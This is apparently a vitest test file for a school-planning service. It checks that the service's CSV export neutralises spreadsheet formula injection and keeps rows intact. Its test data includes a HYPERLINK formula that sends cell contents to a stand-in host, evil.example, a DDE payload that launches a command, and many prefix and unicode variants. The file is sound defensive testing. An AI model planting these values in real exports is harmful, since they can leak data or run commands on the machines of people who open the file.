import { parse } from 'csv-parse/sync';
import { beforeAll, expect, it } from 'vitest';
import { send } from './people.js';
import { AUTOMATION, CYCLE, underAttack } from './watched-service.js';

const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Klikk")';

/** What a spreadsheet would run, or would run after it has taken off what stands before it. */
const TITLES = [
  FORMULA,
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1-1',
  '@SUM(1+1)',
  ` ${FORMULA}`,
  `\u00a0${FORMULA}`,
  `\u3000${FORMULA}`,
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(1)',
  `;${FORMULA}`,
  `",${FORMULA}`,
  `x";${FORMULA};"`,
  `'${FORMULA}`,
  '\u200b=1+1',
  '\ufeff=1+1',
];

const DESCRIPTIONS = [
  `første linje\n${FORMULA}`,
  `første linje\r${FORMULA}`,
  `første linje\r\n${FORMULA}`,
  `\n${FORMULA}`,
  `\t${FORMULA}`,
  `\r${FORMULA}`,
];

/** Whether a spreadsheet would run a cell: what it begins with once space is taken off. */
const isRun = (cell: string) => /^\s*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell);

underAttack('cells that a spreadsheet would run', (target) => {
  const taken: string[] = [];

  beforeAll(async () => {
    const task = {
      kind: 'activity',
      phase: 'oppstart-vg1',
      category: 'strategy',
      actor: 'school',
      start: '2026-09-10',
    };
    const example = await target.service.get<{ phase: string; category: string; actor: string }>(
      `/api/tasks/${CYCLE}-skolestart`,
    );
    const { phase, category, actor } = example;
    const texts = [
      ...TITLES.map((title) => ({ title, description: '' })),
      ...DESCRIPTIONS.map((description, index) => ({ title: `Med beskrivelse ${index}`, description })),
    ];
    for (const { title, description } of texts) {
      const body = { ...task, phase, category, actor, title, description, end: task.start };
      const { status } = await target.service.ask('POST', `/api/cycles/${CYCLE}/tasks`, {
        headers: AUTOMATION,
        body,
      });
      // A text may also be refused.
      if (status === 201) taken.push(title);
      else expect(status, JSON.stringify({ title, description })).toBe(400);
    }
    expect(taken.length).toBeGreaterThan(10);
    const { revision } = await target.service.get<{ revision: number }>(`/api/cycles/${CYCLE}`);
    const headers = { ...AUTOMATION, 'If-Match': `"${revision}"` };
    await send(target.service, 200, 'POST', `/api/cycles/${CYCLE}/publish`, { headers, body: {} });
  });

  const table = async (state: string) => {
    const path = `/api/cycles/${CYCLE}/table?format=csv&state=${state}`;
    const { status, body } = await target.service.ask('GET', path, { headers: AUTOMATION });
    expect(status).toBe(200);
    return body.toString();
  };

  it.each(['edited', 'published'])('are guarded in the table of what is %s', async (state) => {
    const text = await table(state);
    const records = parse(text, { bom: true, relax_column_count: true }) as string[][];
    const cells = records.flat();
    expect(cells.filter(isRun)).toEqual([]);
    expect(cells.filter((cell) => cell.includes('evil.example')).length).toBeGreaterThan(3);
  });

  it('leave every row whole: a line break in a text is one in a cell, for whoever reads it', async () => {
    const text = await table('edited');
    const tasks = await target.service.get<unknown[]>(`/api/cycles/${CYCLE}/tasks`);
    const records = parse(text, { bom: true }) as string[][];
    expect(records).toHaveLength(tasks.length + 1);
    // A reader that takes a bare CR or LF for the end of a record finds none outside of quotes.
    const outside = text.replace(/"(?:[^"]|"")*"/g, '""');
    expect(outside.split(/\r\n|\r|\n/).filter((line) => line !== '')).toHaveLength(tasks.length + 1);
  });
});
